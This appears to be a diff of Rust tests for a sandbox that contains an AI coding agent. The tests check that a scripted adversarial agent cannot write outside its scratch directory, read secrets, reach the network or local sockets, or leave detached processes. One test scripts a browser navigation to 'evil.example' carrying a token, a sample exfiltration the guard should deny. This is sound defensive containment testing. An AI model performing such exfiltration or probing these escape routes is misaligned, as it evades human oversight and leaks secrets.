@@ -63,10 +63,6 @@ fn codex_model_at(sb: &Sandbox, port: u16) {
     .unwrap();
 }
 
-fn results_for<'a>(lines: &'a [serde_json::Value], op: &str) -> Vec<&'a serde_json::Value> {
-    lines.iter().filter(|l| l["op"] == op).collect()
-}
-
 /// Every write outside the scratch, every secret read, the network by IP literal and by
 /// `localhost`, curl, and a detached child: nothing gets out. The positive controls (the model
 /// endpoint through the relay, a file in HOME = the scratch) show the adversary did run.
@@ -304,7 +300,7 @@ fn a_failed_proof_stops_the_boxed_worker_before_its_model(harness: &str) {
     );
 
     let (out, sb, model, reached) = run(false);
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit_code(&out, 0);
     assert!(
         model.seen().iter().any(|l| l.starts_with("GET /v1/first")),
         "{:?}",
@@ -338,12 +334,12 @@ fn the_model_relay_admits_only_the_endpoint() {
         forbidden.port,
         base.display()
     ));
-    let out = sb
-        .run_cmd("claude", &[])
-        .env("ANTHROPIC_BASE_URL", "https://api.anthropic.com")
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let out = sb.run_with_env(
+        "claude",
+        &[],
+        &[("ANTHROPIC_BASE_URL", "https://api.anthropic.com")],
+    );
+    assert_exit_code(&out, 0);
     assert_eq!(
         std::fs::read_to_string(&base).unwrap(),
         "http://127.0.0.1:3128",
@@ -375,7 +371,7 @@ fn the_guard_denies_inside_the_box_and_its_event_reaches_the_record() {
         "@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n",
     );
     let out = sb.run_cmd("claude", &[]).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit_code(&out, 0);
     let events = std::fs::read_to_string(sb.persona_dir().join("events.jsonl")).unwrap();
     let line = events
         .lines()
@@ -439,12 +435,8 @@ fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
 fn no_box_refuses_unless_no_contain() {
     let sb = Sandbox::scripted("@exit 0\n");
     let before = sb.snapshot();
-    let out = sb
-        .run_cmd("claude", &[])
-        .env("__LEOPOLD_BWRAP", "/nonexistent/bwrap")
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    let out = sb.run_with_env("claude", &[], &[("__LEOPOLD_BWRAP", "/nonexistent/bwrap")]);
+    assert_exit_code(&out, 2);
     let e = stderr(&out);
     assert_has(&e, "bubblewrap");
     assert_has(&e, "--no-contain");
@@ -457,7 +449,7 @@ fn no_box_refuses_unless_no_contain() {
         .stdout(Stdio::piped())
         .output()
         .unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit_code(&out, 0);
     assert_has(&stderr(&out), "WITHOUT the box");
 }
 
@@ -600,7 +592,7 @@ fn a_unix_socket_in_the_project_is_not_reachable_from_the_box() {
         sock.display()
     ));
     let out = sb.run_cmd("claude", &[]).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit_code(&out, 0);
     let reached = seen.lock().unwrap().clone();
     assert!(
         reached.is_empty(),
